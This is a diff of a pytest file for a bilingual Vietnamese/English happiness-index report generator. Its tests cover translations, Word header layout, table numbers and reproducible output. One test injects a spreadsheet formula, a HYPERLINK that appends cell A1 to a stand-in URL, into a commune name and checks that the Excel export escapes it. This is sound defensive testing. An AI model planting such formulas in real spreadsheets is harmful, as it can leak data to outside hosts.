@@ -13,31 +13,41 @@ import numpy as np
 import pytest
 
 import happiness_index as hi
-from happiness_index.questionnaire.spec import bundled_spec_path
-from happiness_index.report.annual import run_annual, write_report_files
+from happiness_index.report.annual import write_report_files
 from happiness_index.report.catalog import LANGUAGES, catalog
 from happiness_index.report.numbers import fmt_date, fmt_int, fmt_number, parse_number
+from report_helpers import VI_LETTERS, ascii_sentences, visible_text, without_names
 
 CONFIG = {"issuing_body": "Chi cục Thống kê thành phố Yên Bái", "document_number": "15/BC-CCTK", "place": "Yên Bái",
           "signer_title": "Chi cục trưởng", "date": "2026-12-07"}
 
 
 @pytest.fixture(scope="module")
-def run():
-    spec = hi.IndexSpec.from_toml(bundled_spec_path("yen_bai_nef"))
-    return run_annual(hi.load_city_survey(2024), spec, frame=hi.load_city_frame(), margins=hi.load_city_margins(),
-                      previous=hi.load_city_survey(2023), targets="yen_bai_city_plan", synthetic=True,
-                      report_config=CONFIG)
+def folders(tmp_path_factory):
+    """The bundled example, ``happiness-index run --example``, in both languages."""
+    from happiness_index.report.cli import main
+
+    out = {}
+    for lang in LANGUAGES:
+        d = tmp_path_factory.mktemp(f"rep_{lang}") / "report"
+        assert main(["run", "--example", "--out", str(d), "--lang", lang, "--quiet"]) == 0
+        out[lang] = d
+    return out
 
 
 @pytest.fixture(scope="module")
-def folders(run, tmp_path_factory):
-    out = {}
-    for lang in LANGUAGES:
-        d = tmp_path_factory.mktemp(f"rep_{lang}")
-        write_report_files(run.results, d, lang)
-        out[lang] = d
-    return out
+def results(folders):
+    return json.loads((folders["vi"] / "results.json").read_text(encoding="utf-8"))
+
+
+@pytest.fixture(scope="module")
+def configured(results, tmp_path_factory):
+    """Word reports with the administrative details of ``CONFIG``, both languages."""
+    from happiness_index.report.content import build_document
+    from happiness_index.report.word import write_docx
+
+    d = tmp_path_factory.mktemp("configured")
+    return {lang: write_docx(build_document(results, lang, CONFIG), d / f"{lang}.docx") for lang in LANGUAGES}
 
 
 # ----------------------------------------------------------------------------- numbers and dates
@@ -54,12 +64,6 @@ def test_babel_formats():
 
 
 # ----------------------------------------------------------------------------- catalog
-def _ascii_sentences(text: str) -> list[str]:
-    """Runs of at least four ASCII-only words (an English sentence) in ``text``."""
-    words = r"[A-Za-z][a-z]+(?:[-'][a-z]+)?"
-    return re.findall(rf"\b{words}(?:[ ,]+{words}){{3,}}\b", text)
-
-
 def test_every_catalog_entry_is_translated_with_the_same_placeholders():
     vi, en = catalog("vi"), catalog("en")
     assert set(vi.messages) == set(en.messages) and len(vi.messages) > 150
@@ -67,10 +71,9 @@ def test_every_catalog_entry_is_translated_with_the_same_placeholders():
         assert vi.messages[key].strip() and en.messages[key].strip(), key
         assert vi.placeholders(key) == en.placeholders(key), key
         list(string.Formatter().parse(vi.messages[key]))          # well-formed braces
-    leaks = {k: _ascii_sentences(re.sub(r"\{[^}]*\}", "", v)) for k, v in vi.messages.items()}
+    leaks = {k: ascii_sentences(re.sub(r"\{[^}]*\}", "", v)) for k, v in vi.messages.items()}
     assert not {k: v for k, v in leaks.items() if v}, "English sentences in the Vietnamese catalog"
-    vi_letters = re.compile("[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹ]", re.I)
-    assert not [k for k, v in en.messages.items() if vi_letters.search(v)], "Vietnamese in the English catalog"
+    assert not [k for k, v in en.messages.items() if VI_LETTERS.search(v)], "Vietnamese in the English catalog"
 
 
 def test_catalog_refuses_an_unknown_language_and_key():
@@ -84,13 +87,13 @@ def test_catalog_refuses_an_unknown_language_and_key():
 def _docx(folder):
     import docx
 
-    return docx.Document(str(folder / "report.docx"))
+    return docx.Document(str(folder if folder.suffix == ".docx" else folder / "report.docx"))
 
 
-def test_docx_header_block_follows_decree_30(folders):
+def test_docx_header_block_follows_decree_30(configured):
     from docx.shared import Cm, Pt
 
-    d = _docx(folders["vi"])
+    d = _docx(configured["vi"])
     sec = d.sections[0]
     assert abs(sec.page_width - Cm(21)) < Cm(0.05) and abs(sec.page_height - Cm(29.7)) < Cm(0.05)
     assert (round(sec.top_margin.cm, 1), round(sec.bottom_margin.cm, 1), round(sec.left_margin.cm, 1),
@@ -118,12 +121,17 @@ def test_docx_header_block_follows_decree_30(folders):
     assert right == ["CHI CỤC TRƯỞNG", "(Ký, đóng dấu)", "[Họ và tên]"]
 
 
-def test_docx_english_version_has_the_same_structure(folders):
-    d = _docx(folders["en"])
+def test_docx_english_version_has_the_same_structure(configured, folders):
+    d = _docx(configured["en"])
     right = [p.text for p in d.tables[0].cell(0, 1).paragraphs if p.text]
     assert right == ["SOCIALIST REPUBLIC OF VIET NAM", "Independence - Freedom - Happiness", "Yên Bái, 7 December 2026"]
     assert "REPORT" in [p.text for p in d.paragraphs]
-    assert len(d.tables) == len(_docx(folders["vi"]).tables)
+    assert len(d.tables) == len(_docx(configured["vi"]).tables)
+    default = _docx(folders["en"])              # the defaults of the catalog, no configuration
+    left = [p.text for p in default.tables[0].cell(0, 0).paragraphs if p.text]
+    assert left == ["YEN BAI CITY PEOPLE'S COMMITTEE", "CITY STATISTICS OFFICE", "No.: …/BC-TK"]
+    assert [p.text for p in default.tables[-1].cell(0, 1).paragraphs if p.text] == [
+        "HEAD OF OFFICE", "(Signature and seal)", "[Full name]"]
 
 
 def _flat_numbers(obj, out):
@@ -165,7 +173,7 @@ def test_every_number_in_the_docx_tables_is_in_results_json(folders):
     assert comps.rows[1].cells[1].text == fmt_number(res["components"][0]["estimate"], "vi")
 
 
-def test_docx_commune_table_has_names_and_publishable_flag(folders, run):
+def test_docx_commune_table_has_names_and_publishable_flag(folders):
     d = _docx(folders["vi"])
     tables = [t for t in d.tables if t.rows[0].cells[0].text == "Xã / phường" and
               t.rows[0].cells[-1].text == "Đủ tin cậy để công bố"]
@@ -174,11 +182,9 @@ def test_docx_commune_table_has_names_and_publishable_flag(folders, run):
     assert "Nguyễn Thái Học" in names and len(names) == 17
 
 
-def test_docx_is_reproducible(run, tmp_path):
-    a, b = tmp_path / "a", tmp_path / "b"
-    a.mkdir(), b.mkdir()
-    write_report_files(run.results, a, "vi")
-    write_report_files(run.results, b, "vi")
+def test_outputs_are_reproducible(results, folders, tmp_path):
+    a, b = folders["vi"], tmp_path
+    write_report_files(results, b, "vi")
     for name in ("tables.xlsx", "report.docx", "report.html", "report.md"):
         assert hashlib.sha256((a / name).read_bytes()).digest() == hashlib.sha256((b / name).read_bytes()).digest(), name
 
@@ -225,16 +231,32 @@ def test_xlsx_is_formatted(folders):
     assert en.sheetnames[2] == "Communes" and en["Communes"]["C1"].value == "Estimate"
 
 
-def test_xlsx_and_csv_neutralise_formulas(run, tmp_path):
+def test_xlsx_neutralises_formulas(results, tmp_path):
     import copy
 
     from openpyxl import load_workbook
 
-    evil = copy.deepcopy(run.results)
+    from happiness_index.report.excel import write_tables_xlsx
+
+    evil = copy.deepcopy(results)
     evil["communes"][0]["name"] = '=HYPERLINK("http://x"&A1,"click")'
-    write_report_files(evil, tmp_path, "vi")
+    write_tables_xlsx(evil, tmp_path / "tables.xlsx", "vi")
     ws = load_workbook(tmp_path / "tables.xlsx")["Xã phường"]
     values = [c.value for c in ws["A"]]
     assert "'=HYPERLINK(\"http://x\"&A1,\"click\")" in values and not any(str(v).startswith("=") for v in values)
     ws2 = load_workbook(tmp_path / "tables.xlsx")["Thay đổi theo xã"]
     assert all(isinstance(c.value, float) or c.value is None for c in ws2["E"][1:])   # negative changes stay numbers
+
+
+def test_bundled_example_outputs_hold_no_foreign_language(folders, results):
+    """No English in the Vietnamese report, no Vietnamese in the English one (commune names, the
+    title and sources excepted), in every format of the bundled example."""
+
+    for lang in LANGUAGES:
+        for fmt, text in visible_text(folders[lang]).items():
+            text = without_names(text, results)
+            if lang == "vi":
+                assert not ascii_sentences(text), (fmt, ascii_sentences(text)[:5])
+            else:
+                lines = [ln for ln in text.splitlines() if VI_LETTERS.search(ln)]
+                assert not lines, (fmt, lines[:5])
